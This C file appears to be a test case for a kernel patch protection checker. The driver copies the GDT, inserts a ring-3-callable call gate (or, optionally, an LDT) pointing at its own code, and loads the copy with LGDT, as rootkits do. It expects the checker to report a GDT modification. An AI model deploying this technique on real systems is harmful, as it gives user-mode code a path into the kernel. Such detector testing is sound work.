/* attack_a5 (A5): add a call gate to the GDT. The kernel's GDT has no free
 * slot inside its limit, so the driver does what such rootkits do: copies
 * the table (SGDT) into its own memory with room for one more descriptor,
 * writes a ring-3-callable 64-bit call gate into it that leads to its own
 * code, and loads the copy with LGDT. With argument "ldt" it instead
 * loads a non-zero LDT (an LDT descriptor in the copy). Expected: 0x109,
 * type 0x3 (processor GDT). */
#include "attack.h"

#define GDT_COPY_ENTRIES 16
#define CALL_GATE_TYPE 0xC
#define LDT_TYPE 0x2
#define SEL_KERNEL_CODE 0x08

static uint64_t gdt_copy[GDT_COPY_ENTRIES] __attribute__((aligned(16)));
static uint64_t ldt[4] __attribute__((aligned(16)));

static void gate_target(void) {}

/* A 16-byte system descriptor (call gate or LDT) at slot i. */
static void system_descriptor(int i, uint64_t addr, uint16_t sel, uint8_t type, uint8_t dpl, uint32_t limit)
{
	if (type == CALL_GATE_TYPE) {
		gdt_copy[i] = (addr & 0xFFFF) | ((uint64_t)sel << 16) | ((uint64_t)(0x80 | dpl << 5 | type) << 40) |
			      ((addr >> 16) & 0xFFFF) << 48;
	} else {
		gdt_copy[i] = (limit & 0xFFFF) | ((addr & 0xFFFFFF) << 16) | ((uint64_t)(0x80 | dpl << 5 | type) << 40) |
			      ((uint64_t)((limit >> 16) & 0xF) << 48) | (((addr >> 24) & 0xFF) << 56);
	}
	gdt_copy[i + 1] = addr >> 32;
}

status_t driver_entry(struct driver_object *drv)
{
	struct {
		uint16_t limit;
		uint64_t base;
	} __attribute__((packed)) gdtr;
	__asm__ volatile("sgdt %0" : "=m"(gdtr));
	size_t used = (gdtr.limit + 1u) / 8;
	if (used + 2 > GDT_COPY_ENTRIES) {
		printk("attack_a5: GDT too large to copy\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	memcpy(gdt_copy, (const void *)gdtr.base, used * 8);
	bool want_ldt = !strcmp(drv->args, "ldt");
	if (want_ldt)
		system_descriptor((int)used, (uint64_t)ldt, 0, LDT_TYPE, 0, sizeof ldt - 1);
	else
		system_descriptor((int)used, (uint64_t)&gate_target, SEL_KERNEL_CODE, CALL_GATE_TYPE, 3, 0);
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	uint64_t f = a_cli();
	gdtr.base = (uint64_t)gdt_copy;
	gdtr.limit = (uint16_t)((used + 2) * 8 - 1);
	__asm__ volatile("lgdt %0" ::"m"(gdtr));
	if (want_ldt)
		__asm__ volatile("lldt %w0" ::"r"((uint16_t)(used * 8)));
	a_restore(f);
	printk("attack_a5: GDT copied with %s at selector 0x%lx and loaded\n", want_ldt ? "an LDT" : "a call gate",
	       (uint64_t)(used * 8));
	a_patched("attack_a5");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
